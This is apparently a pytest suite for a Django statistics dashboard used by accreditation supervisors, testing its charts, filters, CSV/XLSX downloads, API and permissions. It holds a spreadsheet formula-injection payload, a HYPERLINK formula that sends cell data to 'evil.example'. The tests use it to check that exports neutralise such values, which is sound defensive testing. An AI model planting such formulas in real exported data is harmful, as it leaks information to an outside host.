"""The statistics dashboard, its CSV and XLSX downloads and its API, as the secretariat and decision makers use them."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape
from openpyxl import load_workbook

from accreditation.choices import AccreditationStatus, CabKind
from assessors.choices import AssessmentKind
from core.models import User
from surveillance.choices import ComplaintKind, ComplaintStatus, SanctionKind
from surveillance.selectors_statistics import StatisticsFilters, statistics
from tests.surveillance.statistics_helpers import (
    accreditation,
    assessment,
    at,
    body,
    complaint,
    reason,
    sanction,
    upload,
)

pytestmark = pytest.mark.django_db
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
DASHBOARD = "/supervision/statistics/"


def export(table: str, file_format: str, **query: Any) -> str:
    url = reverse("surveillance:statistics_export", kwargs={"table": table, "file_format": file_format})
    return url + ("?" + "&".join(f"{key}={value}" for key, value in query.items()) if query else "")


def this_year() -> int:
    return timezone.localdate().year


@pytest.fixture
def figures(secretariat: User) -> dict[str, Any]:
    """A little of everything this year: two bodies, a sanction, a complaint, uploads by a CB named like a formula."""
    lab = body("北京精准检测有限公司", "11")
    cb = body(HYPERLINK, "31", kind=CabKind.CERTIFICATION_BODY)
    lab_cl = accreditation(lab, "CL", granted_on=dt.date(2024, 1, 15))
    cb_ms = accreditation(cb, "MS", AccreditationStatus.SUSPENDED, granted_on=dt.date(2023, 3, 1))
    assessment(lab_cl, secretariat, ended_on=dt.date(2025, 4, 1), kind=AssessmentKind.ON_SITE)
    listed = reason("stat-formula", "=1+1 原因", "=1+1 reason", 1)
    sanction(cb_ms, secretariat, kind=SanctionKind.SUSPENSION, decided_at=at(this_year(), 1, 1, 1), why=listed)
    complaint(
        ComplaintKind.AGAINST_CAB, ComplaintStatus.RESOLVED, received_at=at(this_year(), 1, 1, 1), outcome="warning"
    )
    upload(cb, secretariat, at_time=at(this_year(), 1, 1, 2), applied=120, refused=3)
    return {"lab": lab, "cb": cb}


# --- The dashboard ------------------------------------------------------------------------------


def test_the_dashboard_shows_each_figure_as_a_chart_with_its_table(client_for, secretariat: User, figures: Any) -> None:
    response = client_for(secretariat).get(DASHBOARD)

    assert response.status_code == 200
    body_html = response.content.decode()
    sections = response.context["sections"]
    assert [section["table"].key for section in sections] == [
        table.key for table in statistics(StatisticsFilters.default())
    ]
    uploads = next(section for section in sections if section["table"].key == "uploads_per_cb")
    # One CB, the longest bar: the full width; its table row has the figures as text.
    assert uploads["chart"].bars[0].segments[0].width == 1000
    assert uploads["rows"] == [(HYPERLINK, ["1", "120", "3", f"{this_year()}-01-01"])]
    assert (
        '<rect x="0" y="0" width="1000" height="20" class="stat-fill-0"><title>Rows applied: 120</title></rect>'
        in body_html
    )
    assert "css/statistics.css" in body_html
    assert HYPERLINK not in body_html and escape(HYPERLINK) in body_html
    assert export("uploads_per_cb", "csv", year=this_year()) in body_html.replace("&amp;", "&")


def test_the_status_chart_gives_each_status_its_own_fill_and_legend(
    client_for, decision_maker: User, figures: Any
) -> None:
    response = client_for(decision_maker).get(DASHBOARD)

    section = response.context["sections"][0]
    chart = section["chart"]
    assert section["table"].key == "bodies_by_status"
    assert (2, "Accredited") in chart.legend and (5, "Withdrawn") in chart.legend
    by_label = {bar.label: bar for bar in chart.bars}
    cl = by_label["Testing and calibration laboratories"]
    ms = by_label["Management system certification bodies"]
    assert [(s.label, s.value, s.series) for s in cl.segments] == [("Accredited", 1, 2)]
    assert [(s.label, s.value, s.series) for s in ms.segments] == [("Suspended", 1, 1)]


def test_the_dashboard_follows_its_filters(client_for, secretariat: User, figures: Any) -> None:
    response = client_for(secretariat).get(DASHBOARD, {"year": this_year() - 1, "programme": "CL"})

    filters = response.context["filters"]
    assert (filters.year, filters.programme.code) == (this_year() - 1, "CL")
    tables = {section["table"].key: section["table"] for section in response.context["sections"]}
    assert [row.key for row in tables["bodies_by_status"].rows] == ["CL"]
    assert tables["uploads_per_cb"].rows == []  # the uploads came this year
    assert tables["complaint_outcomes"].totals["received"] == 0


def test_a_wrong_filter_is_explained_and_the_defaults_are_shown(client_for, secretariat: User, figures: Any) -> None:
    response = client_for(secretariat).get(DASHBOARD, {"year": "1999", "programme": "NOPE"})

    assert response.status_code == 200
    assert response.context["form"].errors.keys() == {"year", "programme"}
    assert response.context["filters"] == StatisticsFilters.default()


def test_the_dashboard_is_in_chinese_too(client_for, secretariat: User, figures: Any) -> None:
    response = client_for(secretariat, language="zh-hans").get(DASHBOARD)

    assert response.status_code == 200
    assert "检测和校准实验室认可" in response.content.decode()


def test_the_dashboard_takes_the_same_number_of_queries_however_much_there_is(
    client_for, secretariat: User, figures: Any
) -> None:
    client = client_for(secretariat)
    client.get(DASHBOARD)  # session and roles warmed up
    with CaptureQueriesContext(connection) as small:
        client.get(DASHBOARD, {"year": this_year()})

    for n in range(6):
        cab = body(f"新增检测机构{n}", ["11", "31", "44"][n % 3])
        held = accreditation(cab, ["CL", "IB", "MS"][n % 3], granted_on=dt.date(2022, 1, n + 1))
        assessment(held, secretariat, ended_on=dt.date(2024, 2, n + 1))
        why = reason(f"stat-more-{n}", f"原因{n}", f"Reason {n}", 10 + n)
        sanction(held, secretariat, kind=SanctionKind.WARNING, decided_at=at(this_year(), 1, 2), why=why)
        complaint(ComplaintKind.FALSE_CLAIM, received_at=at(this_year(), 1, 2))
        upload(cab, secretariat, at_time=at(this_year(), 1, 3), applied=n)
    with CaptureQueriesContext(connection) as large:
        response = client.get(DASHBOARD, {"year": this_year()})

    assert len(response.context["sections"][-1]["rows"]) == 7
    assert len(large) == len(small)


# --- Downloads ----------------------------------------------------------------------------------


def _csv(response: Any) -> tuple[bytes, list[list[str]]]:
    raw = b"".join(response.streaming_content)
    return raw, list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


def test_a_table_downloads_as_csv_with_a_bom_and_formulas_neutralised(
    client_for, secretariat: User, figures: Any
) -> None:
    response = client_for(secretariat).get(export("uploads_per_cb", "csv", year=this_year()))

    raw, rows = _csv(response)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="statistics-uploads-per-cb-{this_year()}-{today}.csv"'
    )
    assert raw.startswith(codecs.BOM_UTF8)
    assert rows == [
        ["Certification body", "Uploads", "Rows applied", "Rows refused", "Last upload"],
        ["'" + HYPERLINK, "1", "120", "3", f"{this_year()}-01-01"],
        ["All 1 bodies", "1", "120", "3", f"{this_year()}-01-01"],
    ]


def test_the_sanctions_csv_neutralises_a_reason_that_looks_like_a_formula(
    client_for, secretariat: User, figures: Any
) -> None:
    _raw, rows = _csv(client_for(secretariat).get(export("sanctions_by_reason", "csv")))

    assert rows[1][:3] == ["'=1+1 reason", "1", "0"]


def test_a_table_downloads_as_xlsx_with_numbers_as_numbers_and_text_never_a_formula(
    client_for, secretariat: User, figures: Any
) -> None:
    response = client_for(secretariat).get(export("uploads_per_cb", "xlsx", year=this_year(), programme="MS"))

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    today = timezone.localdate().isoformat()
    assert f'filename="statistics-uploads-per-cb-{this_year()}-MS-{today}.xlsx"' in response["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == ["uploads_per_cb"]
    sheet = workbook["uploads_per_cb"]
    name = sheet["A2"]
    assert (name.value, name.data_type) == ("'" + HYPERLINK, "s")
    assert [cell.value for cell in sheet[2]][1:4] == [1, 120, 3]
    assert sheet["E2"].value == dt.datetime(this_year(), 1, 1)  # a date cell (openpyxl reads it as a datetime)
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []


def test_every_table_downloads_in_one_workbook(client_for, decision_maker: User, figures: Any) -> None:
    response = client_for(decision_maker).get(export("all", "xlsx"))

    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == [table.key for table in statistics(StatisticsFilters.default())]
    by_status = workbook["bodies_by_status"]
    assert by_status["A1"].value == "Programme"
    assert by_status.max_row == 1 + len(statistics(StatisticsFilters.default())[0].rows) + 1


@pytest.mark.parametrize(("table", "file_format"), [("nothing", "csv"), ("bodies_by_status", "pdf"), ("all", "csv")])
def test_an_unknown_table_or_format_is_not_found(client_for, secretariat: User, table: str, file_format: str) -> None:
    assert client_for(secretariat).get(export(table, file_format)).status_code == 404


def test_a_download_with_a_wrong_filter_is_refused(client_for, secretariat: User) -> None:
    response = client_for(secretariat).get(export("bodies_by_status", "csv", year="next"))

    assert response.status_code == 400


def test_a_cab_user_may_not_download_the_statistics(client_for, cab_admin: User, figures: Any) -> None:
    assert client_for(cab_admin).get(export("all", "xlsx")).status_code == 403


# --- API ----------------------------------------------------------------------------------------


def test_the_api_gives_the_same_tables_as_json(api_for, decision_maker: User, figures: Any) -> None:
    response = api_for(decision_maker).get("/api/supervision/statistics/", {"year": this_year(), "programme": "MS"})

    assert response.status_code == 200
    data = response.json()
    assert (data["year"], data["programme"], data["today"]) == (this_year(), "MS", timezone.localdate().isoformat())
    tables = {table["key"]: table for table in data["tables"]}
    assert list(tables) == [table.key for table in statistics(StatisticsFilters.default())]
    assert tables["bodies_by_status"]["rows"] == [
        {
            "key": "MS",
            "label": "Management system certification bodies",
            "values": {**dict.fromkeys(AccreditationStatus.values, 0), "suspended": 1, "total": 1},
        }
    ]
    uploads = tables["uploads_per_cb"]
    assert uploads["rows"][0]["values"] == {
        "uploads": 1,
        "rows_applied": 120,
        "rows_refused": 3,
        "last_upload": f"{this_year()}-01-01",
    }
    assert uploads["columns"][0] == {"key": "uploads", "label": "Uploads"}
    assert uploads["totals_label"] == "All 1 bodies"


@pytest.mark.parametrize("query", [{"year": "1999"}, {"year": "x"}, {"programme": "NOPE"}, {"year": "2999"}])
def test_the_api_refuses_a_wrong_filter(api_for, secretariat: User, query: dict[str, str]) -> None:
    response = api_for(secretariat).get("/api/supervision/statistics/", query)

    assert response.status_code == 400
    assert response.json()["code"] == "invalid"


def test_the_api_is_for_staff_only(api_for, assessor: User, cab_user: User) -> None:
    assert api_for(assessor).get("/api/supervision/statistics/").status_code == 403
    assert api_for(cab_user).get("/api/supervision/statistics/").status_code == 403
    assert api_for(None).get("/api/supervision/statistics/").status_code == 401
